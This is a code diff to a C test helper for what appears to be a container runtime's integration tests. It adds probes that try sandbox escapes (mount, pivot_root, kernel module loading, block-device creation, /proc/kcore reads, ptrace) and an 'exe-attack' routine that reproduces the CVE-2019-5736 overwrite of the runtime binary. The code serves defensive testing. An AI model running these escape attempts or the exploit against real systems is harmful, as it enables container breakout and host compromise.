@@ -14,6 +14,14 @@
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
+#include <dirent.h>
+#include <linux/keyctl.h>
+#include <sched.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
 
 static int usage(void) {
   fprintf(stderr, "hull-test-helper: unknown command\n");
@@ -152,10 +160,175 @@ static int cmd_odirect(int argc, char** argv) {
   return 0;
 }
 
+/* ---- security probes (tests/integration/test_escape.py, test_cve.py, test_security.py) ---- */
+
+/* The errno as its name ("EPERM"), or "ok" for success: what the escape tests assert on. */
+static const char* outcome(long rc, int err) {
+  if (rc >= 0) return "ok";
+  static char buf[32];
+  const char* name = strerrorname_np(err);
+  snprintf(buf, sizeof buf, "%s", name ? name : "E?");
+  return buf;
+}
+
+/* One escape attempt by name; prints "NAME: ok" when the kernel let it through. */
+static void try_one(const char* name) {
+  long rc = -1;
+  errno = 0;
+  if (!strcmp(name, "mount")) {
+    rc = mount("none", "/mnt", "tmpfs", 0, NULL);
+  } else if (!strcmp(name, "umount")) {
+    rc = umount2("/dev/shm", MNT_DETACH);
+  } else if (!strcmp(name, "pivot_root")) {
+    rc = chdir("/") < 0 ? -1 : syscall(SYS_pivot_root, ".", ".");
+  } else if (!strcmp(name, "unshare-user")) {
+    rc = unshare(CLONE_NEWUSER);
+  } else if (!strcmp(name, "unshare-mount")) {
+    rc = unshare(CLONE_NEWNS);
+  } else if (!strcmp(name, "kexec_load")) {
+    rc = syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0UL);
+  } else if (!strcmp(name, "init_module")) {
+    static const char junk[64] = "\177ELF";
+    rc = syscall(SYS_init_module, junk, sizeof junk, "");
+  } else if (!strcmp(name, "keyctl")) {
+    rc = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "escape");
+  } else if (!strcmp(name, "sethostname")) {
+    rc = sethostname("escaped", 7);
+  } else if (!strcmp(name, "mknod-block")) {
+    /* /dev/shm: writable in every default config, unlike a read-only root. */
+    rc = mknod("/dev/shm/escape-blk", S_IFBLK | 0600, makedev(8, 0));
+    if (rc == 0) unlink("/dev/shm/escape-blk");
+  } else if (!strcmp(name, "proc-sys-write")) {
+    int fd = open("/proc/sys/kernel/domainname", O_WRONLY);
+    rc = fd < 0 ? -1 : write(fd, "escaped", 7);
+    if (fd >= 0) close(fd);
+  } else if (!strcmp(name, "kcore-read")) {
+    /* Masked with /dev/null it reads as empty: only bytes of kernel memory count as "ok". */
+    char buf[64];
+    int fd = open("/proc/kcore", O_RDONLY);
+    rc = fd < 0 ? -1 : read(fd, buf, sizeof buf);
+    if (rc == 0) {
+      rc = -1;
+      errno = ENODATA;
+    }
+    if (fd >= 0) close(fd);
+  } else {
+    fprintf(stderr, "try: unknown attempt %s\n", name);
+    exit(2);
+  }
+  printf("%s: %s\n", name, outcome(rc, errno));
+}
+
+static int cmd_try(int argc, char** argv) {
+  for (int i = 2; i < argc; i++) try_one(argv[i]);
+  return 0;
+}
+
+/* ptrace PID: PTRACE_SEIZE of a process, then let go. */
+static int cmd_ptrace(const char* pid) {
+  long rc = ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL);
+  int err = errno;
+  if (rc == 0) ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
+  printf("ptrace %s: %s\n", pid, outcome(rc, err));
+  return 0;
+}
+
+/* pids: every process this /proc shows, one per line. */
+static int cmd_pids(void) {
+  DIR* d = opendir("/proc");
+  if (!d) return 1;
+  for (struct dirent* e; (e = readdir(d));)
+    if (e->d_name[0] >= '0' && e->d_name[0] <= '9') printf("%s\n", e->d_name);
+  closedir(d);
+  return 0;
+}
+
+static int cmd_ids(void) {
+  printf("uid=%d euid=%d gid=%d egid=%d\n", getuid(), geteuid(), getgid(), getegid());
+  return 0;
+}
+
+/* open MODE PATH...: MODE r, w, rw or path; prints "PATH: ok" or the errno name. */
+static int cmd_open(int argc, char** argv) {
+  if (argc < 4) return 2;
+  int flags = !strcmp(argv[2], "w") ? O_WRONLY : !strcmp(argv[2], "rw") ? O_RDWR
+            : !strcmp(argv[2], "path") ? O_PATH : O_RDONLY;
+  for (int i = 3; i < argc; i++) {
+    int fd = open(argv[i], flags | O_CLOEXEC | O_NONBLOCK);
+    printf("%s: %s\n", argv[i], outcome(fd, errno));
+    if (fd >= 0) close(fd);
+  }
+  return 0;
+}
+
+/* syscall NR: the raw syscall with zero arguments; prints its errno name. */
+static int cmd_syscall(const char* nr) {
+  long rc = syscall(atol(nr), 0L, 0L, 0L, 0L, 0L, 0L);
+  printf("syscall %s: %s\n", nr, outcome(rc, errno));
+  return 0;
+}
+
+/* exe-attack FILE SECONDS: CVE-2019-5736 as an attacker inside a container does it. Waits
+ * for FILE to name a pid, opens /proc/PID/exe (O_PATH, as the exploit does, since writing is
+ * refused while the binary runs), then keeps trying to reopen it for writing until SECONDS
+ * pass. Prints what happened; "written" means the runtime's binary was overwritten. */
+static int cmd_exe_attack(const char* file, const char* seconds) {
+  time_t end = time(NULL) + atoi(seconds);
+  int pid = 0;
+  while (!pid && time(NULL) < end) {
+    FILE* f = fopen(file, "r");
+    if (f) {
+      if (fscanf(f, "%d", &pid) != 1) pid = 0;
+      fclose(f);
+    }
+    if (!pid) usleep(10000);
+  }
+  if (!pid) {
+    printf("no target\n");
+    return 1;
+  }
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/exe", pid);
+  int fd = -1, err = 0;
+  while (fd < 0 && time(NULL) < end) {
+    fd = open(path, O_PATH | O_CLOEXEC);
+    if (fd < 0) {
+      err = errno;
+      usleep(10000);
+    }
+  }
+  printf("open exe: %s\n", outcome(fd, err));
+  fflush(stdout);
+  if (fd < 0) return 0;
+  char self[64];
+  snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+  int w = -1;
+  while (w < 0 && time(NULL) < end) {
+    w = open(self, O_WRONLY | O_CLOEXEC);
+    if (w < 0) {
+      err = errno;
+      usleep(10000);
+    }
+  }
+  if (w >= 0 && write(w, "#!/bin/sh\necho hacked\n", 22) == 22) {
+    printf("written\n");
+  } else {
+    printf("reopen for writing: %s\n", outcome(w, err));
+  }
+  return 0;
+}
+
 int main(int argc, char** argv) {
   if (argc < 2) return usage();
   const char* cmd = argv[1];
   if (!strcmp(cmd, "fds")) return cmd_fds();
+  if (!strcmp(cmd, "try")) return cmd_try(argc, argv);
+  if (!strcmp(cmd, "ptrace") && argc > 2) return cmd_ptrace(argv[2]);
+  if (!strcmp(cmd, "pids")) return cmd_pids();
+  if (!strcmp(cmd, "ids")) return cmd_ids();
+  if (!strcmp(cmd, "open")) return cmd_open(argc, argv);
+  if (!strcmp(cmd, "syscall") && argc > 2) return cmd_syscall(argv[2]);
+  if (!strcmp(cmd, "exe-attack") && argc > 3) return cmd_exe_attack(argv[2], argv[3]);
   if (!strcmp(cmd, "memhog")) return cmd_memhog(argc, argv);
   if (!strcmp(cmd, "cpuburn")) return cmd_cpuburn(argc, argv);
   if (!strcmp(cmd, "forkloop")) return cmd_forkloop(argc, argv);
